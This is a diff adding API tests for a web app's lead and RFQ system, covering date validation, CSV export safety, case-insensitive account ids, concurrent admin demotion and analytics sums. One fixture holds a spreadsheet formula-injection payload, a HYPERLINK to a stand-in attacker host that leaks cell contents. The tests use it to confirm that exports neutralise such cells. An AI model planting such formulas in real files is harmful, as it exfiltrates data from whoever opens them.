@@ -9,6 +9,8 @@ import type { RfqDetail } from '~/domain/rfqs';
 import type { AdminUser } from '~/domain/users';
 import type { AppEnv } from '~/server/context';
 import type { UserRow } from '~/server/services/users';
+import { rfqs, users } from '~/server/db/schema';
+import { eq } from 'drizzle-orm';
 import { createTestLead, createTestProduct } from '../factories/records';
 import { createTestUser } from '../factories/users';
 import type { CookieJar } from '../setup/cookieJar';
@@ -105,6 +107,12 @@ describe('leads: search, filters, sort and pages', () => {
       ]),
     );
     expect(await issues(app.request('/api/leads?from=2026-03-05&to=2026-03-01', withCookies(admin)))).toEqual([{ path: 'to', message: 'From must be on or before To' }]);
+    // Days PostgreSQL cannot reach (the day after 9999-12-31 is year 10000), in the list and the export alike.
+    for (const path of ['/api/leads', '/api/leads/export.csv']) {
+      expect(await issues(app.request(`${path}?to=9999-12-31`, withCookies(admin)))).toEqual([{ path: 'to', message: 'To must be a date from 2000-01-01 to 2099-12-31' }]);
+      expect(await issues(app.request(`${path}?from=0001-01-01`, withCookies(admin)))).toEqual([{ path: 'from', message: 'From must be a date from 2000-01-01 to 2099-12-31' }]);
+    }
+    expect((await app.request('/api/leads?from=2000-01-01&to=2099-12-31', withCookies(admin))).status).toBe(200);
     expect(await issues(app.request('/api/leads?projectType=wind', withCookies(admin)))).toEqual([
       { path: 'projectType', message: 'Project type must be one or more of: behind-the-meter-solar, utility-scale-development, data-center-energy, land-lease-opportunity, epc-partnership, other' },
     ]);
@@ -123,6 +131,38 @@ describe('leads: search, filters, sort and pages', () => {
     expect(data.map((row) => row['First name'])).toEqual(['Avery', 'Blake', 'Casey', `'=HYPERLINK("x")`]);
     expect(data[0]).toMatchObject({ ID: String(ids[0]), Status: 'New', Source: 'Home page', 'Project type': 'Behind-the-meter solar', Received: '2026-03-02T10:00:00.000Z' });
     expect(data[3]!.ID).toBe(String(formula.id));
+  });
+});
+
+describe('CSV exports a spreadsheet cannot run, multi-line cells included', () => {
+  const cells = {
+    organizationName: '=1+1\nAcme',
+    details: '=HYPERLINK("http://evil.example/?x="&B2,"Click")\nthanks',
+    firstName: '=3+3\u2028x',
+    lastName: '+1\r2',
+  };
+
+  it('neutralises every such cell of an anonymous lead in the leads CSV', async () => {
+    const sent = await app.request('/api/leads', jsonRequest('POST', { ...cells, email: 'formula@example.com', projectType: 'other' }), { clientAddress: '198.51.100.77' });
+    expect(sent.status).toBe(201);
+    const response = await app.request('/api/leads/export.csv?q=formula%40example.com', withCookies(admin));
+    const { data } = Papa.parse<Record<string, string>>((await response.text()).replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
+    expect(data).toHaveLength(1);
+    expect(data[0]).toMatchObject({ Organization: `'${cells.organizationName}`, Details: `'${cells.details}`, 'First name': `'${cells.firstName}`, 'Last name': `'${cells.lastName}` });
+  });
+
+  it('neutralises them in an RFQ\'s CSV', async () => {
+    const product = await createTestProduct(database.db);
+    const draft = (await (await app.request('/api/rfqs', jsonRequest('POST', { projectName: 'x', status: 'draft' }, buyer))).json()) as { id: number };
+    await app.request(`/api/rfqs/${draft.id}/items`, jsonRequest('POST', { productId: product.id, quantity: 1, specifications: cells.details }, buyer));
+    const submitted = await app.request(
+      `/api/rfqs/${draft.id}`,
+      jsonRequest('PATCH', { projectName: cells.organizationName, shipToAddress: `${cells.lastName} Main Street, Austin`, neededBy: '2099-01-01', status: 'submitted' }, buyer),
+    );
+    expect(submitted.status).toBe(200);
+    const csv = await (await app.request(`/api/rfqs/${draft.id}/export.csv`, withCookies(buyer))).text();
+    const { data } = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
+    expect(data[0]).toMatchObject({ Project: `'${cells.organizationName}`, 'Ship to': `'${cells.lastName} Main Street, Austin`, 'Line note': `'${cells.details}` });
   });
 });
 
@@ -356,6 +396,64 @@ describe('accounts', () => {
   });
 });
 
+describe('accounts: ids in any case, and never without an admin', () => {
+  it('reads an id in upper case as the same account: one\'s own role and sessions stay out of reach', async () => {
+    const ownUpper = adminUser.id.toUpperCase();
+    const role = await app.request(`/api/admin/users/${ownUpper}/role`, jsonRequest('PATCH', { role: 'buyer' }, admin));
+    expect(role.status).toBe(409);
+    expect(await role.json()).toEqual({ error: 'You cannot change your own role' });
+    const revoke = await app.request(`/api/admin/users/${ownUpper}/revoke-sessions`, jsonRequest('POST', {}, admin));
+    expect(revoke.status).toBe(409);
+    expect((await app.request('/api/admin/stats', withCookies(admin))).status).toBe(200);
+  });
+
+  it('audits a change made through an upper-case id under the account\'s real id', async () => {
+    const person = await createTestUser(database.db);
+    const changed = await app.request(`/api/admin/users/${person.id.toUpperCase()}/role`, jsonRequest('PATCH', { role: 'developer' }, admin));
+    expect(await changed.json()).toMatchObject({ id: person.id, role: 'developer' });
+    const entries = await json<AuditEntry[]>(app.request(`/api/admin/audit?entityType=user&entityId=${person.id}`, withCookies(admin)));
+    expect(entries.map((entry) => [entry.entityId, entry.action])).toEqual([[person.id, 'user.role']]);
+    // A filter typed in upper case finds it too.
+    expect(await json<AuditEntry[]>(app.request(`/api/admin/audit?entityType=user&entityId=${person.id.toUpperCase()}`, withCookies(admin)))).toHaveLength(1);
+  });
+
+  it('reads the user id of the saved-runs list in any case', async () => {
+    const response = await app.request(`/api/calculators/runs?userId=${adminUser.id.toUpperCase()}`, withCookies(admin));
+    expect(response.status).toBe(200);
+  });
+
+  describe('two admins demoting each other at once', () => {
+    let fresh: TestDatabase;
+    let freshApp: Hono<AppEnv>;
+
+    beforeAll(async () => {
+      fresh = await createTestDatabase();
+      freshApp = createTestApp(fresh);
+    });
+    afterAll(async () => {
+      await fresh.dispose();
+    });
+
+    it('lets one of them win, and the system keeps an admin, every time', async () => {
+      for (let round = 0; round < 5; round += 1) {
+        const [first, second] = [await createTestUser(fresh.db, { role: 'admin' }), await createTestUser(fresh.db, { role: 'admin' })];
+        const [firstJar, secondJar] = [await signIn(freshApp, first.email), await signIn(freshApp, second.email)];
+        const answers = await Promise.all([
+          freshApp.request(`/api/admin/users/${second.id}/role`, jsonRequest('PATCH', { role: 'buyer' }, firstJar)),
+          freshApp.request(`/api/admin/users/${first.id}/role`, jsonRequest('PATCH', { role: 'buyer' }, secondJar)),
+        ]);
+        expect(answers.map((answer) => answer.status).sort(), `round ${round}`).toEqual([200, 403]);
+        const loser = answers.find((answer) => answer.status === 403)!;
+        expect(await loser.json()).toEqual({ error: 'Forbidden' });
+        const admins = await fresh.db.select({ id: users.id }).from(users).where(eq(users.role, 'admin'));
+        expect(admins, `round ${round}`).toHaveLength(1);
+        // The one left cannot be demoted by anyone: there is nobody else to do it.
+        await fresh.db.update(users).set({ role: 'buyer' }).where(eq(users.role, 'admin'));
+      }
+    });
+  });
+});
+
 describe('analytics and content', () => {
   let fresh: TestDatabase;
   let freshApp: Hono<AppEnv>;
@@ -378,7 +476,11 @@ describe('analytics and content', () => {
     await createTestLead(fresh.db, { projectType: 'other', createdAt: weekAgo, status: 'closed' });
     await createTestLead(fresh.db, { projectType: 'other', createdAt: new Date('2020-01-01T00:00:00Z') });
     const person = await signIn(freshApp, (await createTestUser(fresh.db)).email);
-    await freshApp.request('/api/calculators/run', jsonRequest('POST', { type: 'bess_value', inputs: {}, outputs: {} }, person));
+    const saved = await freshApp.request(
+      '/api/calculators/run',
+      jsonRequest('POST', { type: 'bess_value', inputs: { batteryCapacityKW: 5000, batteryCapacityKWh: 20000, demandChargeRate: 15, touRates: { peak: 0.25, offPeak: 0.08 }, roundTripEfficiency: 0.9, cyclesPerMonth: 22 } }, person),
+    );
+    expect(saved.status).toBe(201);
     const analytics = await json<AdminAnalytics>(freshApp.request('/api/admin/analytics', withCookies(staff)));
     expect(analytics.weeks).toHaveLength(12);
     const thisWeek = analytics.weeks.at(-1)!;
@@ -399,6 +501,17 @@ describe('analytics and content', () => {
     expect(analytics.runsPerWeek.find((row) => row.week === thisWeek && row.type === 'bess_value')!.count).toBe(1);
     expect(analytics.rfqValueByStatus.map((row) => row.status)).toEqual(['draft', 'submitted', 'under_review', 'quoted', 'closed']);
     expect(analytics.rfqValueByStatus.every((row) => row.count === 0 && row.value === '0.00')).toBe(true);
+  });
+
+  it('sums RFQ values beyond what one RFQ may hold without overflowing', async () => {
+    const owner = await createTestUser(fresh.db);
+    // The column's largest values, as RFQs submitted before the value limit could have them.
+    const largest = '99200000000000.00';
+    await fresh.db.insert(rfqs).values([1, 2, 3].map(() => ({ userId: owner.id, status: 'submitted' as const, submittedAt: new Date(), totalEstimatedValue: largest })));
+    const response = await freshApp.request('/api/admin/analytics', withCookies(staff));
+    expect(response.status).toBe(200);
+    const analytics = (await response.json()) as AdminAnalytics;
+    expect(analytics.rfqValueByStatus.find((row) => row.status === 'submitted')).toEqual({ status: 'submitted', count: 3, value: '297600000000000.00' });
   });
 
   it('lists every article of the collection, drafts too, with its problems', async () => {
